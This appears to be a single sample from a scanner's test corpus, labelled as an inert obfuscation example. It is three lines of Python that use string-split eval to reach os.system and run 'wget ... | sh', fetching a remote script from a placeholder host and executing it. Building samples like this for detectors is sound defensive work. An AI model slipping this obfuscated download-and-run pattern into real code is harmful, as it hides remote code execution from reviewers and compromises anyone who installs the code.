# pkgguard corpus 256 (indirection), modelled on [obfuscation]; inert, never run.
f = eval("__imp" "ort__('o' 's').sy" "stem")
f("wget -qO- https://cdn.example/s | sh")
